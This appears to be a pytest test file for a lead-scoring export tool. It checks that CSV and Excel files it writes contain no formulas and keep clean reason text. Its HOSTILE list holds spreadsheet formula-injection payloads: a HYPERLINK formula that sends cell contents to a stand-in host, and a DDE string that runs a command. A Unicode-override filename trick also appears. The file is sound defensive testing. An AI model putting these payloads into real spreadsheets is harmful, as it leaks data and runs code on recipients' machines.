"""What leaves the house as a file: short reasons, numbers that stay numbers, and no cell that a spreadsheet runs."""

import csv
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest
import xlsxwriter

from finished_folder import finished_folder, lead, reason
from predictive_scoring.cli.exporting import ExportJob, export_lines
from predictive_scoring.errors import ConfigurationError, DataContractError, SourceUnreachableError
from predictive_scoring.scoring.brief import MAX_REASON_CHARACTERS, brief_scores, needed_columns, reason_lines
from predictive_scoring.scoring.finished import FinishedScores
from predictive_scoring.scoring.table_sinks import inert
from predictive_scoring.storage import read_parquet

HOSTILE = [
    '=HYPERLINK("http://x?"&A1,"ver")',
    "@SUM(A1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1",
    "＝1+1",
    "\r\n=1+1",
    "{=1+1}",
]


def exported(folder: Path, to: str, **more: object) -> list[str]:
    return list(export_lines(ExportJob(folder, to, **more)))  # type: ignore[arg-type]


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    rows = [
        lead(rank, text, reason(0.1, f"{text} industry"), grade=text if rank == 1 else "A")
        for rank, text in enumerate(HOSTILE, start=1)
    ]
    return finished_folder(tmp_path / "scores", rows)


def test_J05_no_cell_of_the_workbook_is_a_formula_and_every_text_is_a_text_cell(hostile: Path, tmp_path: Path) -> None:
    path = tmp_path / "leads.xlsx"
    exported(hostile, str(path))
    sheet = openpyxl.load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink]
    assert sheet["B2"].value == HOSTILE[0]  # as it is, in a text cell
    assert {sheet.cell(2, place).data_type for place in (1, 3, 5, 6, 7)} == {"n"}


def test_J05_planted_the_library_left_to_itself_writes_a_formula(tmp_path: Path) -> None:
    with xlsxwriter.Workbook(str(tmp_path / "plain.xlsx")) as book:
        book.add_worksheet().write_column(0, 0, HOSTILE)
    sheet = openpyxl.load_workbook(tmp_path / "plain.xlsx").active
    assert [cell.data_type for (cell,) in sheet.iter_rows()].count("f") >= 1


def test_J05_no_field_of_the_csv_begins_as_a_formula_does(hostile: Path, tmp_path: Path) -> None:
    path = tmp_path / "leads.csv"
    exported(hostile, str(path))
    with path.open(encoding="utf-8-sig", newline="") as file:
        header, *rows = list(csv.reader(file))
    assert header[:4] == ["Rank", "Lead", "Score (1-100)", "Grade"]
    assert len(rows) == len(HOSTILE)
    assert not [field for row in rows for field in row if field[:1] in "=+-@\t\r＝＋－＠" and not is_number(field)]
    assert rows[0][1] == "'" + HOSTILE[0]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_J06_a_phone_is_readable_as_text_and_an_amount_stays_a_number(tmp_path: Path) -> None:
    assert inert(pa.array(["+34 600 000 000", "L1"])).to_pylist() == ["'+34 600 000 000", "L1"]
    folder = finished_folder(tmp_path / "scores", [lead(1, "+34 600 000 000", score=-5)])
    exported(folder, str(tmp_path / "leads.csv"))
    (row,) = list(csv.reader((tmp_path / "leads.csv").read_text(encoding="utf-8-sig").splitlines()))[1:]
    assert (row[1], row[2]) == ("'+34 600 000 000", "-5")


def test_J08_A12_marks_that_do_not_show_are_shown_and_line_ends_are_spaces(tmp_path: Path) -> None:
    folder = finished_folder(tmp_path / "scores", [lead(1, "evil\u202eexe\x07", reason(0.1, "two\nlines"))])
    rows = brief_scores(FinishedScores.load(folder, needed_columns()), "en")
    assert rows["lead_id"].to_pylist() == ["evil\ufffdexe\ufffd"]
    assert rows["reasons"].to_pylist() == ["↑ two lines"]


def test_reasons_are_one_line_of_the_four_strongest_with_their_direction() -> None:
    given = pa.chunked_array(
        [
            pa.array(
                [[reason(0.2, "a"), reason(-0.1, "b")], [], [reason(-0.01, letter) for letter in "uvwxyz"]],
            )
        ]
    )
    assert reason_lines(given, "en").to_pylist() == ["↑ a; ↓ b", "", "↓ u; ↓ v; ↓ w; ↓ x"]
    assert reason_lines(given, "es").to_pylist()[0] == "↑ (es) a; ↓ (es) b"


def test_a_line_of_reasons_fits_a_text_field_of_a_crm() -> None:
    given = pa.chunked_array([pa.array([[reason(0.1, "word " * 40)] * 4, [reason(0.1, "ñ" * 253)]])])
    long, just = reason_lines(given, "en").to_pylist()
    assert len(long) <= MAX_REASON_CHARACTERS
    assert long.endswith("…")
    assert just == "↑ " + "ñ" * 253


def test_a_reason_that_history_contradicts_is_not_among_the_few() -> None:
    agree = [
        {**reason(0.3, "a"), "agrees": False},
        {**reason(0.2, "b"), "agrees": None},
        {**reason(-0.1, "c"), "agrees": True},
    ]
    given = pa.chunked_array([pa.array([agree, [], agree[:1]])])
    assert reason_lines(given, "en").to_pylist() == ["↑ b; ↓ c", "", ""]


def test_a_slice_of_the_scores_gives_the_slices_reasons() -> None:
    given = pa.chunked_array([pa.array([[reason(0.1, str(number))] for number in range(5)])])
    assert reason_lines(given.slice(3), "en").to_pylist() == ["↑ 3", "↑ 4"]


def test_scores_without_sentences_in_a_language_are_refused(tmp_path: Path) -> None:
    folder = finished_folder(tmp_path / "scores", [lead(1, "L1", {**reason(0.1, "a"), "text_es": None})])
    with pytest.raises(ConfigurationError, match="carry no sentences"):
        exported(folder, str(tmp_path / "o.csv"), language="es")
    assert exported(folder, str(tmp_path / "o.csv")) == [f"1 leads -> {tmp_path / 'o.csv'}"]


def test_the_best_so_many_in_spanish(tmp_path: Path) -> None:
    folder = finished_folder(tmp_path / "scores", [lead(rank, f"L{rank}") for rank in (3, 1, 2)])
    exported(folder, str(tmp_path / "o.csv"), language="es", top=2)
    rows = list(csv.reader((tmp_path / "o.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert [row[1] for row in rows] == ["Lead", "L1", "L2"]
    assert rows[0][0] == "Puesto"
    assert (rows[0][3], rows[0][7]) == ("Nivel", "Motivos principales")  # as the page and the glossary call them
    assert rows[1][7] == "↑ Pidió una demostración hace 3 días"


def test_a_lead_that_opted_out_is_never_written(tmp_path: Path) -> None:
    fine = finished_folder(tmp_path / "fine", [lead(1, "L1")], opted_out=("L2",))
    exported(fine, str(tmp_path / "o.csv"))
    assert "L2" not in (tmp_path / "o.csv").read_text(encoding="utf-8")
    planted = finished_folder(tmp_path / "planted", [lead(1, "L1"), lead(2, "L2")], opted_out=("L2",))
    with pytest.raises(DataContractError, match="1 leads are scored and not scored at once"):
        exported(planted, str(tmp_path / "p.csv"))
    assert not (tmp_path / "p.csv").exists()


def test_a_folder_that_is_not_whole_or_was_changed_is_refused(tmp_path: Path) -> None:
    folder = finished_folder(tmp_path / "scores", [lead(1, "L1")])
    content = bytearray((folder / "scores.parquet").read_bytes())
    content[30] ^= 1
    (folder / "scores.parquet").write_bytes(bytes(content))
    with pytest.raises(DataContractError, match="not what manifest"):
        exported(folder, str(tmp_path / "o.csv"))
    for damaged in ('{"files": ', "[]", "{}", '{"files": {}}'):  # the last would check no file at all
        (folder / "manifest.json").write_text(damaged)
        with pytest.raises(DataContractError, match=r"manifest\.json: damaged"):
            exported(folder, str(tmp_path / "o.csv"))
    (folder / "manifest.json").unlink()
    with pytest.raises(SourceUnreachableError, match="not a finished folder"):
        exported(folder, str(tmp_path / "o.csv"))


def test_a_dry_run_says_how_many_and_writes_nothing(tmp_path: Path) -> None:
    folder = finished_folder(tmp_path / "scores", [lead(1, "L1")])
    before = sorted(tmp_path.iterdir())
    for to in (str(tmp_path / "o.xlsx"), "postgresql", "hubspot", "salesforce"):
        assert exported(folder, to, dry_run=True) == [f"would write 1 leads to {to}; nothing was written"]
    assert sorted(tmp_path.iterdir()) == before


@pytest.mark.parametrize("to", ["leads.pdf", "mysql", "leads"])
def test_an_unknown_place_is_refused(tmp_path: Path, to: str) -> None:
    with pytest.raises(ConfigurationError, match="unknown"):
        exported(tmp_path, to)


def test_no_lead_gives_a_file_with_a_header(tmp_path: Path) -> None:
    folder = finished_folder(tmp_path / "scores", [])
    for name in ("o.csv", "o.xlsx"):
        exported(folder, str(tmp_path / name))
    assert len((tmp_path / "o.csv").read_text(encoding="utf-8-sig").splitlines()) == 1
    assert openpyxl.load_workbook(tmp_path / "o.xlsx").active.max_row == 1
    assert read_parquet(folder / "scores.parquet").num_rows == 0
